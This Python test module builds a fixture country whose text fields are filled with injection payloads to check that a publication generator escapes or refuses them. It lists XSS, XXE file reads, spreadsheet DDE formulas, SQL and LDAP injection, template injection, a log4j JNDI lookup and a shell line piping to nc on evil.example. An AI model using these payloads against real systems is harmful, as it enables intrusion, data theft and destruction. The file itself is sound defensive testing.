"""What a hostile hand writes into a field: `PAYLOADS`, and a country with one in every text field.

Fields are found through the schemas, so a new one has its payloads without a line here. Groups of payloads
go round: over `GROUPS` countries every payload stands in every field.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import yaml

from generator.check import check, contract
from generator.check.schemas import Field, Schema, of_table, parsed
from generator.descriptors import SCHEMAS, descriptor
from generator.load import load
from generator.model import Edition, ReleaseName
from generator.release import plan, write
from generator.score import score
from tests.country import write_country

SHOWN: Mapping[str, str] = {
    # ---- markup
    "script": "<script>window.pwned=1</script>",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "end of a script": "</script><script>window.pwned=2</script>",
    "end of a title": "</title></head><body onload=window.pwned=3>",
    "end of a table": "</td></tr></table></section></article></main><h1>pwned</h1>",
    "end of a text area": "</textarea></noscript></style></template><img src=x onerror=window.pwned=4>",
    "picture that fails": "<img src=x onerror=window.pwned=5>",
    "drawing": "<svg/onload=window.pwned=6>",
    "drawing with a script": "<svg><script>window.pwned=7</script></svg>",
    "animated link": "<svg><a><animate attributeName=href values=javascript:window.pwned=8 /></a></svg>",
    "frame": "<iframe srcdoc='<script>parent.pwned=9</script>'></iframe>",
    "object": "<object data=data:text/html,<script>parent.pwned=10</script>></object>",
    "link with a script": "<a href='javascript:window.pwned=11'>x</a>",
    "form": "<form action=https://evil.example><input name=id_card autofocus onfocus=window.pwned=12>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "base": "<base href=https://evil.example/>",
    "style": "<style>@import 'https://evil.example/x.css';*{display:none}</style>",
    "style sheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "comment": "<!-- <b> --!> <b>",
    "open comment": "<!--",
    "closed comment": "--> <b>pwned</b>",
    "cdata": "<![CDATA[ <b>pwned</b> ]]>",
    "end of cdata": "]]><b>pwned</b>",
    "processing instruction": "<?xml-stylesheet href='https://evil.example/x.xsl'?><?php echo 1 ?>",
    "document type": "<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "entities": "&lt;b&gt; &amp;amp; &#60;script&#62; &#x3c;i&#x3e; &nbsp; &quot;",
    "entities without an end": "&lt &amp &copy &#0; &#x110000; &unknown;",
    "mathematics": "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=13>",
    "custom element": "<x-pwned contenteditable onfocus=window.pwned=14 tabindex=1 id=content>",
    # ---- out of an attribute, a string, a sheet of style
    "double quote": '" onmouseover="window.pwned=15" x="',
    "single quote": "' onmouseover='window.pwned=16' x='",
    "back quote": "` onmouseover=window.pwned=17 `",
    "both quotes and a bracket": "'\"><b>pwned</b>",
    "end of a tag": "/><b>pwned</b>",
    "of an attribute without quotes": "x onclick=window.pwned=18//",
    "script's string": "');window.pwned=19;//",
    "script's double string": '");window.pwned=20;//',
    "script's template": "${window.pwned=21}`",
    "json": '"},{"pwned":true,"x":"',
    "prototype": "__proto__ constructor prototype toString",
    "callback": 'lpa.data("pwned",1);',
    "style value": "red;background:url(https://evil.example/x)}*{display:none",
    "backslashes": "\\ \\\\ \\n \\u003cb\\u003e \\x3cb\\x3e \\",
    # ---- addresses
    "javascript": "javascript:window.pwned=22",
    "javascript written otherwise": "JaVaScRiPt&colon;window.pwned=23",
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data picture": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=24'/>",
    "other host": "//evil.example/x https://evil.example/?a=1&b=2#c",
    "path": "../../../etc/passwd ..\\..\\windows /index.html ~/.ssh/id_rsa %2e%2e%2f",
    "device": "CON PRN AUX NUL COM1 LPT1 nul.csv",
    "file": "file:///etc/passwd \\\\evil.example\\share\\x",
    # ---- spreadsheets
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "formula of a program": "=cmd|' /C calc'!A0",
    "formula with plus": "+SUM(A1:A9)*cmd|'/C calc'!A0",
    "formula with minus": "-2+3+cmd|'/C calc'!A0",
    "formula with at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "import from the web": '=IMPORTXML("https://evil.example/","//a")',
    "commas and quotes": 'a,"b;c",\'d\'""',
    "command of a page's foot": '&P &N &F &A &D &"Arial,Bold" &K00FF00 && %',
    "name of a sheet": "'[x.xlsx]Sheet'!A1 [1]!a :\\/?*[]",
    # ---- templates and formats
    "template": "{{ 7*7 }} {% include 'x' %} {# x #}",
    "template of a class": "{{ ''.__class__.__mro__[1].__subclasses__() }} <%= 7*7 %> [[ 7*7 ]] [% x %]",
    "places of words": "{0} {} {name} {page} {of} {pages} {edition!r:>9} {contact.__class__}",
    "half of a place": "{ } }} {",
    "percent": "%s %d %n %(name)s %% 100%",
    "typesetting": '#eval("1+1") #read("/etc/passwd") #link("https://evil.example")[x] #panic()',
    "signs of typesetting": "*a* _b_ `c` $x^2$ <label> @ref ~ -- --- // /* x */ = H [x]",
    "tex": "\\input{/etc/passwd} \\write18{ls} $\\pwned$ 100% ~ ^ _ # &",
    "markdown": "[x](javascript:window.pwned=25) ![x](https://evil.example/x.png) **b** `c` # h",
    "markdown's html": "<details open ontoggle=window.pwned=26><summary>x</summary></details>",
    "regular expression": ".*+?^${}()|[]\\ \\1 \\g<1> (a+)+$",
    "markup of a word processor": "</w:t></w:r><w:r><w:fldSimple w:instr='DDEAUTO c:\\\\x'/><w:t>",
    "markup of a spreadsheet": "</t></is></c><c><f>1+1</f></c><c t='inlineStr'><is><t> _x000a_ _x005F_",
    # ---- commands, databases, logs
    "shell": "; rm -rf / `id` $(id) | nc evil.example 1 && x > y",
    "database": "' OR 1=1; DROP TABLE lgos;--",
    "directory": "*)(uid=*))(|(uid=*",
    "log": "log4j ${jndi:ldap://evil.example/a}",
    "workflow command": "::error file=x,line=1::pwned ::add-mask::x ::set-output name=a::b",
    "workflow command of old": "##[error]pwned ##[add-mask]a ##vso[task.setvariable variable=a]b",
    "workflow expression": "${{ github.token }} ${{ secrets.X }}",
    # ---- letters
    "one long word": "ยาว" * 60 + "W" * 80,
}  # fmt: skip
"""What can be published, as the text it is."""

REFUSED: Mapping[str, str] = {
    "null": "a\0b",
    "bell and backspace": "a\a\b\x7fb",
    "terminal": "\x1b[31mred\x1b[0m \x1b]0;title\a",
    "terminal of one byte": "\x9b31mred\x9d0;title\x9c",
    "line feed": "a\n::error::pwned",
    "carriage return": "a\r::error::pwned",
    "tab": "a\tb",
    "tab before a formula": "\t=1+1",
    "other line ends": "a\x0b\x0c\x85b",
    "line separator": "a\u2028b",
    "paragraph separator": "a\u2029b",
    "direction": "a\u202etxt.exe\u202c",
    "isolates": "a\u2066b\u2069",
    "marks of direction": "a\u200e\u200fb",
    "zero width": "a\u200bb\u200c\u200d\u2060",
    "byte order mark": "\ufeffa",
    "soft hyphen": "a\u00adb",
    "no-break space": "a\u00a0b",
    "private use": "\uf70a\ue000",
    "not a character": "a\uffffb",
    "not a character either": "a\ufffeb",
    "letters for machines": "a\U000e0041\U000e0042\U000e007fb",
    "fillers": "a\u115f\u3164b",
    "marks of other scripts": "a\u061cb\u180e",
    "private use beyond the first plane": "a\U000f0000b",
    "broken character": "a\ufffdb",
    "annotation": "a\ufff9b\ufffab\ufffb",
    "stacked marks": "ก" + "\u0e49" * 12,
    "stacked marks of elsewhere": "Z" + "\u0300\u0301\u0302\u0303" * 4,
    "taken apart": "นํ้า นํา e\u0301",
    "formula in full width": "＝1+1",
    "other letters": "中文 العربية עברית 한국어 Ωμέγα Русский ё ﬁ ½ ™",
    "beyond the first plane": "𝒳 😀 🏛 𠮷",
    "digits of elsewhere": "٣ ３ ³ Ⅲ",
    "looks alike": "раураl Ａ․ࠆ ⁄ ∕ ＜script＞",
    "marker of a frame": "@lpa content@",
    "marker of a frame as an element": "<meta data-lpa-content>",
    "too long": "ก" * 4_001,
}
"""What is refused in every field."""

PAYLOADS: Mapping[str, str] = {**SHOWN, **REFUSED}

SIZE = 44
GROUPS = -(-len(SHOWN) // SIZE)
"""How many countries it takes until every payload has stood in every field."""

_SPECIAL = re.compile(r"[^0-9A-Za-z\u0e00-\u0e7f\s(]")


def masked(text: str) -> str:
    """`text` with every sign that could mean something made an x: of the same length, and harmless."""
    return _SPECIAL.sub("x", text)


def group(number: int) -> str:
    """Payloads one after the other; the first stands at the beginning, where formulas work."""
    words = list(SHOWN.values())
    turn = number % GROUPS
    return " ".join(words[turn::GROUPS])


def all_schemas() -> Iterator[Schema]:
    """The schema of every table and every settings file of the contract."""
    for path in sorted([*SCHEMAS.glob("*.json"), *SCHEMAS.glob("settings/*.json")]):
        yield parsed(descriptor(path.relative_to(SCHEMAS).with_suffix("").as_posix()))


def fields() -> Iterator[tuple[str, Field]]:
    """Every field of the contract, with its table."""
    for schema in all_schemas():
        for each in schema.fields.values():
            yield schema.name, each


def suited(text: str, name: str) -> str:
    """`text` in the language of the field `name`: Thai has Thai letters in it, English none."""
    if name.endswith("_th"):
        return f"{text} ก"
    return re.sub("[\u0e00-\u0e7f]", "t", text) if name.endswith("_en") else text


Words = Callable[[int], str]
"""The text of a number."""


class _Country:
    """Puts words into fields, another in each, and remembers which fields had one."""

    def __init__(self, words: Words, turn: int) -> None:
        self.words, self.next = words, turn
        self.filled: set[tuple[str, str]] = set()
        self.given: dict[tuple[str, str, str], str] = {}

    def new(self, table: str, name: str, old: str) -> str:
        """The words instead of `old` in a field; the same for the same."""
        self.filled.add((table, name))
        known = self.given.get((table, name, old))
        if known is None:
            known = self.given[table, name, old] = suited(self.words(self.next), name)
            self.next += 1
        return known

    def table(self, text: str, schema: Schema) -> str:
        rows = list(csv.reader(io.StringIO(text)))
        for column, name in enumerate(rows[0]):
            if schema.fields[name].kind in ("text", "value"):
                spoken = [row for row in rows[1:] if row[column]] or rows[1:2]
                for row in spoken:
                    if schema.fields[name].kind == "text" or row[rows[0].index("target")] == "name":
                        row[column] = self.new(schema.name, name, row[column])
        kept = io.StringIO()
        csv.writer(kept, lineterminator="\n").writerows(rows)
        return kept.getvalue()

    def settings(self, text: str, schema: Schema) -> str:
        content = yaml.safe_load(text)
        for path, each in schema.fields.items():
            if each.kind == "text":
                head, _, name = path.partition("[].")
                for place in content[head] if name else [content]:
                    key = name or path
                    place[key] = self.new(schema.name, path, str(place.get(key) or ""))
        return yaml.safe_dump(content, allow_unicode=True, sort_keys=False, width=10_000)


NAME_CORRECTED = (
    "C2568-5,registry,06830201,name,ก,ข,2025-10-01,rejected,2025-10-15,ชื่อเดิมถูกต้อง,As before,มท 1\n"
)


def spoken_country(data: Path, words: Words, turn: int) -> set[tuple[str, str]]:
    """The tiny country at `data`, with `words` in every text field from the number `turn` on, and its final
    round released anew. Returns the fields (table, name) that have words."""
    write_country(data)
    corrections = data / "rounds/2568/corrections.csv"
    corrections.write_text(corrections.read_text("utf-8") + NAME_CORRECTED, "utf-8")
    country = _Country(words, turn)
    for path in sorted(each for each in data.rglob("*") if each.suffix in (".csv", ".yaml")):
        found = contract.place(path.relative_to(data).as_posix())
        assert found is not None
        if found.kind in ("scores", "self", "dimensions", "release"):
            continue
        fill: Any = country.settings if path.suffix == ".yaml" else country.table
        path.write_bytes(fill(path.read_text("utf-8"), of_table(found.kind)).encode())
    for old in sorted((data / "releases").rglob("*"), reverse=True):
        old.rmdir() if old.is_dir() else old.unlink()
    name = ReleaseName(2567, Edition("F1"))
    sources = load(data)
    [planned] = plan(sources, score(check(sources, (name,))), (name,), documents=False)
    write(planned, data)
    return country.filled
